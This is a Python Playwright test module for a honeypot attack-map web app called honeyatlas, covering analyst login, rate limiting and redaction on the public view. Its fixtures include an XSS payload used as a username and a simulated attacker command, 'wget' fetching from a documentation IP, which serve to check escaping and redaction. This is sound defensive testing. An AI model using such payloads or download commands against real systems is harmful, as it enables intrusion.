"""The map in a real browser: Debian's chromium driven by Playwright (never a downloaded browser).

An analyst logs in through the form and sees the full map; with the public view on, an
anonymous visitor sees the map the server redacted, without one full address. The other
browser test modules take `browser` and `analyst_page` from here.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import pytest

from honeyatlas.access import Role
from tests.conftest import RunningServer, start_server

CHROMIUM = "/usr/bin/chromium"
XSS = "<img src=x onerror=alert(1)>"
ANALYST = "analyst"
PASSWORD = "correct horse battery staple"

pytestmark = pytest.mark.browser


@pytest.fixture
def browser() -> Iterator[object]:
    if not shutil.which(CHROMIUM):
        pytest.fail("Debian's chromium is missing: run scripts/test-deps (make test does)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        chromium = p.chromium.launch(
            executable_path=CHROMIUM,
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
                  "--disable-sync", "--no-first-run", "--disable-quic"],
        )
        try:
            yield chromium
        finally:
            chromium.close()


def add_analyst(server: RunningServer) -> None:
    """The analyst user, made through the accounts API (as `honeyatlas user add` does)."""
    if ANALYST not in {user.name for user in server.service.accounts.users()}:
        server.service.accounts.add_user(ANALYST, Role.ANALYST, PASSWORD)


def analyst_page(browser, server: RunningServer, **context: Any):  # type: ignore[no-untyped-def]
    """A page in a fresh browser context holding an analyst's session cookie (logged in
    through the login route; the form itself is tested below)."""
    add_analyst(server)
    session = browser.new_context(**context)
    answer = session.request.post(f"{server.url}api/v1/login", data={"username": ANALYST, "password": PASSWORD})
    assert answer.ok, answer.text()
    return session.new_page()


def off_origin(server: RunningServer, requests: list[str]) -> list[str]:
    origin = server.url.rstrip("/")
    ws_origin = origin.replace("http://", "ws://")
    return [u for u in requests if not (u.startswith(origin) or u.startswith(ws_origin) or u.startswith("data:"))]


def iso_now() -> str:
    return datetime.now(UTC).isoformat().replace("+00:00", "Z")


def test_map_draws_live_events_as_text_and_stays_on_origin(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    running, stop = start_server(tmp_path / "data")
    stopped = False
    try:
        token = running.add_sensor("berlin-01", location=(52.52, 13.40))
        page = analyst_page(browser, running, viewport={"width": 1400, "height": 800})
        requests: list[str] = []
        dialogs: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("websocket", lambda ws: requests.append(ws.url))
        page.goto(running.url)
        page.wait_for_selector('#conn-status[data-state="up"]', timeout=15_000)
        page.wait_for_function("() => window.__honeyatlas && window.__honeyatlas.mapReady === true", timeout=15_000)
        painted = page.evaluate(
            """() => { const c = document.querySelector('canvas#map');
                       const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
                       const seen = new Set(); for (let i = 0; i < d.length; i += 4 * 97) seen.add(d[i] + ',' + d[i+1] + ',' + d[i+2]);
                       return seen.size; }"""
        )
        assert painted > 3, "the canvas shows no map"

        now = datetime.now(UTC).isoformat().replace("+00:00", "Z")
        record = {"eventid": "cowrie.login.failed", "src_ip": "8.8.8.8", "src_port": 51515, "dst_port": 22,
                  "username": XSS, "password": "x", "session": "abcdef012345", "timestamp": now, "protocol": "ssh"}
        response = httpx.post(f"{running.url}api/v1/ingest/cowrie", content=json.dumps(record),
                              headers={"Authorization": f"Bearer {token}"})
        assert response.json()["accepted"] == 1

        item = page.locator("#ticker li.ticker-item").first
        item.wait_for(timeout=10_000)
        assert XSS in item.inner_text()
        assert page.locator("#ticker img").count() == 0
        page.wait_for_function("() => window.__honeyatlas.arcsDrawn >= 1", timeout=10_000)
        page.wait_for_function("() => document.querySelector('#count-1m').textContent.trim() === '1'", timeout=15_000)
        page.screenshot(path=str(tmp_path / "map.png"))
        assert dialogs == []

        assert off_origin(running, requests) == []

        stop()
        stopped = True
        page.wait_for_selector('#conn-status[data-state="down"]', timeout=20_000)
    finally:
        if not stopped:
            stop()


def post(server: RunningServer, token: str, records: list[dict[str, Any]]) -> None:
    response = httpx.post(f"{server.url}api/v1/ingest/event", content="\n".join(json.dumps(r) for r in records),
                          headers={"Authorization": f"Bearer {token}"}, timeout=30)
    assert response.status_code == 200 and response.json()["accepted"] == len(records), response.text


def test_logging_in_through_the_form_shows_the_full_map(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    server, stop = start_server(tmp_path / "data")
    try:
        add_analyst(server)
        token = server.add_sensor("fra-analyst-7", location=(50.11, 8.68))
        post(server, token, [{"ts": iso_now(), "kind": "login_attempt", "src_ip": "8.8.8.8", "dst_port": 22,
                              "username": "root", "password": "hunter2"}])
        page = browser.new_context(viewport={"width": 1280, "height": 720}).new_page()
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(server.url)
        form = page.locator("#login-form")
        form.wait_for(state="visible", timeout=10_000)
        assert page.locator("#map").is_visible() and page.locator("#ticker").is_hidden()
        assert page.evaluate("() => window.__honeyatlas.audience") == "none"

        page.fill("#login-username", ANALYST)
        page.fill("#login-password", "not the password")
        page.click("#login-submit")
        page.wait_for_function("() => document.querySelector('#login-error').textContent.length > 0", timeout=10_000)
        assert page.locator("#login-error").is_visible()
        assert form.is_visible()

        page.fill("#login-password", PASSWORD)
        page.click("#login-submit")
        page.wait_for_function("() => window.__honeyatlas && window.__honeyatlas.audience === 'analyst'", timeout=15_000)
        page.wait_for_selector('#conn-status[data-state="up"]', timeout=15_000)
        page.wait_for_function("() => window.__honeyatlas.mapReady === true", timeout=15_000)
        assert form.is_hidden()
        assert ANALYST in page.locator("#user-name").text_content()
        # the full map: the sensor by name, the full source address and the credentials
        page.wait_for_selector('#ticker li.ticker-item', timeout=10_000)
        ticker = page.locator("#ticker").text_content()
        assert "8.8.8.8" in ticker and "fra-analyst-7" in ticker and "hunter2" in ticker
        page.wait_for_function("() => window.__honeyatlas.arcsDrawn >= 1", timeout=10_000)
        page.wait_for_selector("#sensor-counts li.sensor-count", timeout=10_000)

        page.click("#logout")
        form.wait_for(state="visible", timeout=10_000)
        assert page.evaluate("() => window.__honeyatlas.audience") == "none"

        # guessing is rate limited, and the form says for how long
        for _ in range(8):
            page.fill("#login-username", ANALYST)
            page.fill("#login-password", "still not the password")
            page.click("#login-submit")
            page.wait_for_function("() => !document.querySelector('#login-submit').disabled", timeout=10_000)
            if "Too many attempts" in page.locator("#login-error").text_content():
                break
        assert re.fullmatch(r"Too many attempts: try again in \d+ s\.", page.locator("#login-error").text_content())
        assert errors == []
    finally:
        stop()


def test_the_public_map_paints_arcs_without_any_full_address(browser, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    server, stop = start_server(tmp_path / "data", public={"enabled": True})
    try:
        sources = ["8.8.8.8", "1.1.1.1", "185.220.101.1", "2001:4860:4860::8888"]
        secret = ["secret-sensor-fra", "hunter2-pw", "wget http://198.51.100.7/x", XSS]
        token = server.add_sensor("secret-sensor-fra", location=(50.11, 8.68))
        page = browser.new_page(viewport={"width": 1280, "height": 720})
        requests: list[str] = []
        dialogs: list[str] = []
        page.on("request", lambda r: requests.append(r.url))
        page.on("websocket", lambda ws: requests.append(ws.url))
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.goto(server.url)
        page.wait_for_function("() => window.__honeyatlas && window.__honeyatlas.audience === 'public'", timeout=15_000)
        page.wait_for_selector('#conn-status[data-state="up"]', timeout=15_000)
        page.wait_for_function("() => window.__honeyatlas.mapReady === true", timeout=15_000)
        assert page.locator("#login-form").is_hidden() and page.locator("#login-open").is_visible()

        post(server, token, [
            {"ts": iso_now(), "kind": kind, "src_ip": ip, "dst_port": 22, "username": XSS, "password": "hunter2-pw",
             "command": "wget http://198.51.100.7/x", "session": f"s{n}"}
            for n, ip in enumerate(sources) for kind in ("login_attempt", "command")
        ])
        page.wait_for_function(f"() => window.__honeyatlas.eventsSeen >= {2 * len(sources)}", timeout=15_000)
        page.wait_for_function("() => window.__honeyatlas.arcsDrawn >= 3", timeout=10_000)
        page.wait_for_function("() => Number(document.querySelector('#count-1m').textContent) >= 8", timeout=15_000)
        page.screenshot(path=str(tmp_path / "public.png"))
        shown = page.evaluate("() => document.documentElement.outerHTML")
        for value in sources + secret:
            assert value not in shown, value
        assert "8.8.8.0/24" in page.locator("#ticker").text_content()  # the network, not the address

        # the Log in button opens the same form, which can be left again
        page.click("#login-open")
        page.locator("#login-form").wait_for(state="visible", timeout=5_000)
        page.click("#login-cancel")
        assert page.locator("#login-form").is_hidden()
        assert dialogs == [] and off_origin(server, requests) == []
        assert not any("/api/v1/sensors" in u or "/api/v1/events" in u for u in requests)  # analyst routes untouched

        # an analyst logs in from the public map and gets the full one
        add_analyst(server)
        page.click("#login-open")
        page.fill("#login-username", ANALYST)
        page.fill("#login-password", PASSWORD)
        page.click("#login-submit")
        page.wait_for_function("() => window.__honeyatlas && window.__honeyatlas.audience === 'analyst'", timeout=15_000)
        page.wait_for_selector("#sensor-counts li.sensor-count", timeout=10_000)
        page.wait_for_selector('#conn-status[data-state="up"]', timeout=15_000)
        post(server, token, [{"ts": iso_now(), "kind": "connection", "src_ip": "8.8.8.8", "dst_port": 22}])
        page.wait_for_function("() => document.querySelector('#ticker').textContent.includes('8.8.8.8')", timeout=10_000)
        assert "secret-sensor-fra" in page.locator("#ticker").text_content()
    finally:
        stop()

